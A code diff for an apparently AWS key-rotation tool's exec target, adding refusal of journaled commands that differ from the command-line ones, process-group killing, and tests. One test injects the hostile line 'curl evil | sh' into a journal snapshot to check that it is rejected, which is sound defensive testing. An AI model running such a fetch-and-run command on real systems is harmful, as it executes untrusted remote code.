@@ -16,6 +16,14 @@
 //! - the rollback command may run more than once (rollback is retried by `rekey resume`), and after
 //!   a crash it runs even if `apply` never did: a new process cannot tell. It must be idempotent.
 //!
+//! Both commands run without rekey's own AWS credentials in their environment (they would act as
+//! the rotating admin), in a process group of their own that is killed whole when they outlive
+//! the timeout or rekey stops waiting for them (see [`run_sh`]).
+//!
+//! The commands run are this target's own, from the command line that built it: a snapshot read
+//! back from a journal that names other commands is refused, since a journal is data, not a
+//! place to take commands from.
+//!
 //! The target holds no key rekey can read (`current_key_id` is `None`).
 
 use std::ffi::OsStr;
@@ -27,18 +35,9 @@ use std::time::Duration;
 use async_trait::async_trait;
 use serde::{Deserialize, Serialize};
 
-use crate::file::{RunError, redact, run_sh};
+use crate::error::redact;
+use crate::file::{RunError, run_sh};
 use crate::{ErrorKind, NewKey, Options, Preflight, Snapshot, Target, TargetError, TargetSpec};
-
-/// Credentials of rekey's own environment that would mix with the key handed to the command (a
-/// session token beside a long-term key makes every call fail) or be taken for it on rollback.
-const INHERITED_CREDENTIALS: [&str; 5] = [
-    "AWS_ACCESS_KEY_ID",
-    "AWS_SECRET_ACCESS_KEY",
-    "AWS_SESSION_TOKEN",
-    "AWS_SECURITY_TOKEN",
-    "AWS_CREDENTIAL_EXPIRATION",
-];
 
 pub struct ExecTarget {
     name: String,
@@ -96,6 +95,22 @@ impl ExecTarget {
         self.local.lock().unwrap_or_else(|e| e.into_inner())
     }
 
+    /// The snapshot, if it names this target's own commands.
+    fn own_snapshot(&self, snapshot: &Snapshot) -> Result<ExecSnapshot, TargetError> {
+        let snap: ExecSnapshot = snapshot.to_state(&self.name)?;
+        if snap.command != self.command || snap.rollback_command != self.rollback_cmd {
+            return Err(self.err(ErrorKind::Unusable(format!(
+                "the journaled snapshot names the commands `{}` / `{}`, not this target's `{}` / `{}`; rekey runs \
+                 only the commands given on its command line",
+                snap.command,
+                snap.rollback_command.as_deref().unwrap_or("(none)"),
+                self.command,
+                self.rollback_cmd.as_deref().unwrap_or("(none)"),
+            ))));
+        }
+        Ok(snap)
+    }
+
     async fn run(
         &self,
         what: &str,
@@ -103,7 +118,7 @@ impl ExecTarget {
         env: &[(&str, &OsStr)],
         secret: Option<&str>,
     ) -> Result<(), TargetError> {
-        match run_sh(cmd, env, &INHERITED_CREDENTIALS, self.timeout).await {
+        match run_sh(cmd, env, self.timeout).await {
             Ok(()) => Ok(()),
             Err(RunError::Spawn(e)) => Err(self.err(ErrorKind::Consumers(format!("cannot start {what} `{cmd}`: {e}")))),
             Err(RunError::Wait(e)) => Err(self.err(ErrorKind::Consumers(format!("{what} `{cmd}` failed: {e}")))),
@@ -112,7 +127,7 @@ impl ExecTarget {
             }
             Err(RunError::Failed { status, last_stderr }) => {
                 // A command that echoes its environment on failure must not put the secret in the report.
-                let last = redact(&last_stderr, secret.into_iter());
+                let last = redact(&last_stderr, &secret.into_iter().collect::<Vec<_>>());
                 Err(self.err(ErrorKind::Consumers(format!("{what} `{cmd}` exited with {status}: {last}"))))
             }
         }
@@ -167,7 +182,7 @@ impl Target for ExecTarget {
     }
 
     async fn apply(&self, key: &NewKey, snapshot: &Snapshot) -> Result<(), TargetError> {
-        let snap: ExecSnapshot = snapshot.to_state(&self.name)?;
+        let snap = self.own_snapshot(snapshot)?;
         self.local().applied = Some(key.access_key_id.clone());
         let old = snap.old_key_id.unwrap_or_default();
         let env = [
@@ -184,7 +199,7 @@ impl Target for ExecTarget {
     }
 
     async fn rollback(&self, snapshot: &Snapshot) -> Result<(), TargetError> {
-        let snap: ExecSnapshot = snapshot.to_state(&self.name)?;
+        let snap = self.own_snapshot(snapshot)?;
         let (snapshot_taken, applied) = {
             let local = self.local();
             (local.snapshot_taken, local.applied.clone())
@@ -196,7 +211,7 @@ impl Target for ExecTarget {
         }
         let new = applied.or_else(|| self.new_key_id.clone());
         let old = snap.old_key_id.clone().unwrap_or_default();
-        let Some(cmd) = self.rollback_cmd.as_deref().or(snap.rollback_command.as_deref()) else {
+        let Some(cmd) = self.rollback_cmd.as_deref() else {
             return Err(self.err(ErrorKind::Consumers(format!(
                 "`{}` {} with the new key {} and there is no rollback command (--restart-cmd after the target): \
                  whatever it changed still holds the new key; put back {} by hand",
@@ -324,6 +339,81 @@ mod tests {
         let e = t.apply(&key(), &snap).await.unwrap_err();
         assert!(matches!(e.kind, ErrorKind::Timeout { .. }), "{e}");
         assert!(started.elapsed() < Duration::from_secs(3));
+    }
+
+    /// Whether `pid` is a live process (a zombie waiting to be reaped is not).
+    fn alive(pid: &str) -> bool {
+        std::fs::read_to_string(format!("/proc/{pid}/stat"))
+            .ok()
+            .and_then(|stat| stat.rsplit_once(") ").map(|(_, rest)| !rest.starts_with('Z')))
+            .unwrap_or(false)
+    }
+
+    /// Waits, briefly, for the background child the command wrote to `pidfile` to die.
+    async fn dies(pidfile: &Path) -> bool {
+        let pid = fs::read_to_string(pidfile).expect("the command started its child").trim().to_string();
+        for _ in 0..50 {
+            if !alive(&pid) {
+                return true;
+            }
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+        false
+    }
+
+    #[tokio::test]
+    async fn a_timeout_kills_what_the_command_started_too() {
+        let dir = tempfile::tempdir().unwrap();
+        let pidfile = dir.path().join("pid");
+        // `sleep` is a child of `sh`: killing `sh` alone would leave it running for a minute.
+        let cmd = format!("sleep 60 & echo $! > {}; wait", pidfile.display());
+        let t = target(&cmd, None, Duration::from_millis(1500));
+        let snap = t.snapshot().await.unwrap();
+        let e = t.apply(&key(), &snap).await.unwrap_err();
+        assert!(matches!(e.kind, ErrorKind::Timeout { .. }), "{e}");
+        assert!(dies(&pidfile).await, "the command's child outlived the timeout");
+    }
+
+    #[tokio::test]
+    async fn giving_up_on_the_command_kills_its_group() {
+        let dir = tempfile::tempdir().unwrap();
+        let pidfile = dir.path().join("pid");
+        let cmd = format!("sleep 60 & echo $! > {}; wait", pidfile.display());
+        let t = target(&cmd, None, Duration::from_secs(30));
+        let snap = t.snapshot().await.unwrap();
+        // Ctrl-C drops the future of the step under way.
+        let key = key();
+        assert!(tokio::time::timeout(Duration::from_millis(1500), t.apply(&key, &snap)).await.is_err());
+        assert!(dies(&pidfile).await, "the command's child outlived rekey giving up on it");
+    }
+
+    #[tokio::test]
+    async fn a_command_that_exits_keeps_what_it_started_in_the_background() {
+        let dir = tempfile::tempdir().unwrap();
+        let pidfile = dir.path().join("pid");
+        // A restart command may launch the app this way; its stderr stays open, and rekey does
+        // not wait for it to close.
+        let cmd = format!("sleep 60 & echo $! > {}", pidfile.display());
+        let t = target(&cmd, None, Duration::from_secs(5));
+        let snap = t.snapshot().await.unwrap();
+        let started = std::time::Instant::now();
+        t.apply(&key(), &snap).await.unwrap();
+        assert!(started.elapsed() < Duration::from_secs(3), "waited for the background child's stderr");
+        let pid = fs::read_to_string(&pidfile).unwrap().trim().to_string();
+        assert!(alive(&pid));
+        std::process::Command::new("kill").arg(&pid).status().unwrap();
+    }
+
+    #[tokio::test]
+    async fn a_journal_cannot_choose_the_commands() {
+        let t = target("true", Some("undo.sh".into()), Duration::from_secs(5));
+        let mut snap = t.snapshot().await.unwrap();
+        snap.0["rollback_command"] = serde_json::json!("curl evil | sh");
+        let e = t.rollback(&snap).await.unwrap_err();
+        assert!(e.to_string().contains("only the commands given on its command line"), "{e}");
+        let mut snap = t.snapshot().await.unwrap();
+        snap.0["command"] = serde_json::json!("curl evil | sh");
+        assert!(t.apply(&key(), &snap).await.is_err());
     }
 
     #[tokio::test]
